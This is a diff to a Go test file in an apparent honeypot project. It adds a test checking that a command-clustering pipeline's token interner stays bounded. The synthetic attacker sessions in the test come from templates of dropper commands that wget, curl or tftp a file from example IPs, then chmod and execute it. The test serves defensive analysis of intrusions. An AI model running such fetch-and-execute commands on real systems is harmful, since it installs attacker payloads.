@@ -2,11 +2,16 @@ package live
 
 import (
 	"encoding/json"
+	"fmt"
 	"math/rand"
+	"reflect"
 	"slices"
+	"strings"
 	"testing"
+	"time"
 
 	"honeynet/internal/cluster"
+	"honeynet/internal/session"
 	"honeynet/internal/textdist"
 )
 
@@ -294,4 +299,69 @@ func TestSnapshotMatchesFullRebuild(t *testing.T) {
 	if inc, full := run(false), run(true); string(inc) != string(full) {
 		t.Fatalf("snapshots differ:\nincremental %s\nfull        %s", inc, full)
 	}
+}
+
+// TestInternerStaysBounded: download sessions that each fetch a fresh
+// random file name add new tokens forever, but the interner only has to
+// hold the medoid and reservoir texts' tokens. It must stay bounded,
+// and its rebuilds must change no assignment, distance or snapshot
+// field against an assigner (and a pipeline) that never rebuilds.
+func TestInternerStaysBounded(t *testing.T) {
+	templates := []string{
+		"cd /tmp; wget http://198.51.100.7/%s; chmod +x %s; ./%s",
+		"cd /var/run; curl -O http://203.0.113.9/%s; sh %s",
+		"busybox tftp -g -r %s 192.0.2.4; chmod 777 %s; ./%s x86",
+	}
+	// A bare assigner whose impossible silhouette floor reclusters at
+	// every check, and a pipeline at its defaults, each with a twin
+	// that keeps every token.
+	a := newAssigner(maxClusters, reservoirSize, newClusterDist, 0.99, 64, 1)
+	aRef := newAssigner(maxClusters, reservoirSize, newClusterDist, 0.99, 64, 1)
+	aRef.keepInterner = true
+	p, pRef := NewPipeline(Options{}), NewPipeline(Options{})
+	pRef.asg.keepInterner = true
+
+	rng := rand.New(rand.NewSource(5))
+	start := time.Date(2023, 3, 1, 0, 0, 0, 0, time.UTC)
+	rebuilds := 0
+	for i := 0; i < 6000; i++ {
+		name := fmt.Sprintf("%08x", rng.Uint32())
+		r := &session.Record{
+			Start:     start.Add(time.Duration(i) * time.Minute),
+			Downloads: []session.Download{{SourceIP: "198.51.100.7"}},
+		}
+		for _, c := range strings.Split(strings.ReplaceAll(templates[rng.Intn(len(templates))], "%s", name), "; ") {
+			r.Commands = append(r.Commands, session.Command{Raw: c})
+		}
+		p.Observe(r)
+		pRef.Observe(r)
+
+		before := a.interner.Len()
+		gotC, gotD := a.observe(r.CommandText())
+		wantC, wantD := aRef.observe(r.CommandText())
+		if gotC != wantC || gotD != wantD {
+			t.Fatalf("session %d: assigned (%d, %v), without rebuilds (%d, %v)", i, gotC, gotD, wantC, wantD)
+		}
+		if a.interner.Len() < before {
+			rebuilds++
+		}
+		// One observation adds at most its own tokens past the limit.
+		if n, limit := a.interner.Len(), internSlack*max(a.held, internFloor)+len(textdist.Tokenize(r.CommandText())); n > limit {
+			t.Fatalf("session %d: interner holds %d tokens, over %d", i, n, limit)
+		}
+	}
+	if rebuilds == 0 || a.reclusters == 0 {
+		t.Fatalf("%d rebuilds, %d reclusters: both paths must run (%d tokens; %d without rebuilds)",
+			rebuilds, a.reclusters, a.interner.Len(), aRef.interner.Len())
+	}
+	if n := p.asg.interner.Len(); n >= pRef.asg.interner.Len()/2 {
+		t.Errorf("the pipeline's interner holds %d tokens, %d without rebuilds", n, pRef.asg.interner.Len())
+	}
+	got, want := p.Snapshot(), pRef.Snapshot()
+	got.Uptime, want.Uptime = "", ""
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("snapshots differ:\n%+v\n%+v", got, want)
+	}
+	t.Logf("%d rebuilds, %d reclusters: interner %d tokens, %d without rebuilds; pipeline %d, %d without",
+		rebuilds, a.reclusters, a.interner.Len(), aRef.interner.Len(), p.asg.interner.Len(), pRef.asg.interner.Len())
 }
